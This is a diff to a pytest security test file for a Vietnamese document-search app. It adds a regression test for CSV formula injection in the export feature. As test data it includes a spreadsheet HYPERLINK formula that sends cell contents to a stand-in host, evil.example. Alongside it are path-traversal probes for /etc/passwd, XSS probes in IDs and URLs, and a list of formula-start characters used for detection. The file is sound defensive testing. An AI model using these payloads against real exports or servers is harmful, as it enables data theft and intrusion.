@@ -61,6 +61,9 @@ TRAVERSAL = [
     "/api/documents/..%2F..%2Fetc%2Fpasswd",
 ]
 PASSWD_MARK = "root:x:0:0"
+# A title that a spreadsheet would run as a formula when it opens the CSV export.
+FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")'
+FORMULA_STARTS = ("=", "+", "@", "\t", "\r")
 
 
 def _hostile_articles() -> list[dict]:
@@ -72,6 +75,8 @@ def _hostile_articles() -> list[dict]:
         paras[0] = f"{paras[0]} {probe}"
         paras.insert(2, f"Đồng chí Nguyễn Văn {probe} phát biểu: “{probe}”.")
         rows.append({"id": f"hostile-{i}-{probe[:20]}", "text": "\n\n".join(paras), "url": f"https://example.vn/{quote(probe)}"})
+    body = article(80_102)[1].split("\n\n")
+    rows.append({"id": "formula", "text": "\n\n".join([FORMULA, *body[1:]]), "url": "https://example.vn/f"})
     rows.append({"id": "../../../../etc/passwd", "text": article(80_100)[1], "url": "javascript:alert('xss-url')"})
     rows.append({"id": "<script>alert('xss-id')</script>", "text": article(80_101)[1], "url": "https://example.vn/a"})
     return rows
@@ -199,6 +204,27 @@ def test_long_and_odd_queries(client) -> None:
         for url in ("/api/search", "/search"):
             r = _get(client, url, params={"q": q})
             assert r.status_code < 500, (url, q[:20], r.status_code)
+
+
+def _formula_cells(csv_text: str) -> list[str]:
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row if cell.startswith(FORMULA_STARTS)]
+
+
+@pytest.mark.skipif(not has("export"), reason="hoptac export is not in this build yet")
+def test_regression_csv_export_formula_injection(client, hostile_db: Path) -> None:
+    """Bug: an article title starting with '=' went into the CSV export as is, so a spreadsheet
+    opening the file runs it as a formula (OWASP "CSV injection"). Cells that start with
+    = + @ TAB CR must be neutralised (e.g. a leading apostrophe)."""
+    proc = run("export", "documents", "--format", "csv", "--db", str(hostile_db))
+    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr
+    assert "HYPERLINK" in proc.stdout, "the probe article is in the export"
+    assert not _formula_cells(proc.stdout), _formula_cells(proc.stdout)[:3]
+    r = _get(client, "/export/documents.csv")
+    assert r.status_code == 200
+    assert not _formula_cells(r.text), _formula_cells(r.text)[:3]
 
 
 @pytest.mark.slow
